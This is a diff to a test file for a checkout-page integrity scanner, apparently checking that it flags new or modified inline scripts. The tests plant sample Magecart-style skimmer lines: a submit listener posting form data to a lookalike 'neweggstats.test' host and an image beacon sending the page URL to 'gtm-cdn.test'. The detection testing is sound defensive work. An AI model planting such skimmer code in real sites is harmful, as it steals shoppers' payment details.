@@ -2,8 +2,15 @@
 
 import assert from 'node:assert/strict';
 import { after, before, describe, it } from 'node:test';
-import { APP_JS, CHECKOUT_HTML, ICONS_SVG, LOADER_JS, PAY_SDK_JS, WIDGET_JS } from '../fixtures/shop.js';
+import { APP_JS, CHECKOUT_HTML, CSP, ICONS_SVG, LOADER_JS, PAY_SDK_JS, WIDGET_JS } from '../fixtures/shop.js';
 import { baselinedShop, type Scenario, type ScanJson } from './scenario.js';
+
+/** The Newegg-style skimmer: an inline submit listener posting the form to a lookalike host. */
+const NEWEGG_INLINE = `<script>document.getElementById('checkout').addEventListener('submit', function () { fetch('http://neweggstats.test:{{PORT}}/c', { method: 'POST', body: new FormData(this) }); });</script>`;
+
+function setCheckout(s: Scenario, body: string): void {
+  s.site.set('shop.test', '/checkout', { body, headers: { 'content-security-policy': CSP, 'x-frame-options': 'DENY' } });
+}
 
 function only(json: ScanJson, type: string) {
   return json.alerts.filter((a) => a.type === type);
@@ -62,8 +69,8 @@ describe('attacks on a baselined checkout page', () => {
   });
 
   it('reports a new inline script (Newegg)', async () => {
-    const inline = `<script>document.getElementById('checkout').addEventListener('submit', function () { fetch('http://neweggstats.test:${s.site.port}/c', { method: 'POST', body: new FormData(this) }); });</script>`;
-    s.site.set('shop.test', '/checkout', { body: CHECKOUT_HTML.replace('</body>', `${inline}</body>`), headers: { 'content-security-policy': "default-src 'self'; script-src 'self' 'unsafe-inline' 'unsafe-eval' http://*.test:{{PORT}}; connect-src *; frame-src *", 'x-frame-options': 'DENY' } });
+    const inline = NEWEGG_INLINE;
+    setCheckout(s, CHECKOUT_HTML.replace('</body>', `${inline}</body>`));
     const { json } = await s.scan();
     const added = only(json, 'script.added');
     assert.equal(added.length, 1, JSON.stringify(json.alerts, null, 2));
@@ -75,10 +82,9 @@ describe('attacks on a baselined checkout page', () => {
   });
 
   it('reports a modified inline script as one change, not a removal and an addition', async () => {
-    const base = (await import('../fixtures/shop.js')).CHECKOUT_HTML;
-    const modified = base.replace("window.dataLayer.push({ page: 'checkout' });", "window.dataLayer.push({ page: 'checkout' }); new Image().src = 'http://gtm-cdn.test:" + s.site.port + "/c?d=' + btoa(location.href);");
-    const inline = `<script>document.getElementById('checkout').addEventListener('submit', function () { fetch('http://neweggstats.test:${s.site.port}/c', { method: 'POST', body: new FormData(this) }); });</script>`;
-    s.site.set('shop.test', '/checkout', { body: modified.replace('</body>', `${inline}</body>`), headers: { 'content-security-policy': "default-src 'self'; script-src 'self' 'unsafe-inline' 'unsafe-eval' http://*.test:{{PORT}}; connect-src *; frame-src *", 'x-frame-options': 'DENY' } });
+    const inline = NEWEGG_INLINE;
+    const modified = CHECKOUT_HTML.replace("window.dataLayer.push({ page: 'checkout' });", "window.dataLayer.push({ page: 'checkout' }); new Image().src = 'http://gtm-cdn.test:" + s.site.port + "/c?d=' + btoa(location.href);");
+    setCheckout(s, modified.replace('</body>', `${inline}</body>`));
     const { json } = await s.scan();
     const changed = only(json, 'script.changed');
     assert.equal(changed.length, 1, JSON.stringify(json.alerts, null, 2));
